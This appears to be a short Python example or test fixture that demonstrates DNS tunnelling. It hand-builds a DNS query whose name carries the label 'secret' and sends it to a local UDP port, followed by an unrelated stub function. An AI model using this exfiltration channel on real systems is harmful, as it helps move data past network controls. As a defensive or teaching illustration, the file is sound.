"""Carry data out in the name that a resolver is asked for.

Known from: DNS tunnels, open where everything else is closed.
Shows: heard
"""

import socket

question = b"\x12\x34\x01\x00\x00\x01\x00\x00\x00\x00\x00\x00\x06secret\x07example\x00\x00\x01\x00\x01"
with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as line:
    line.sendto(question, ("127.0.0.1", UDP_PORT))  # noqa: F821


def row_means(x):
    return x
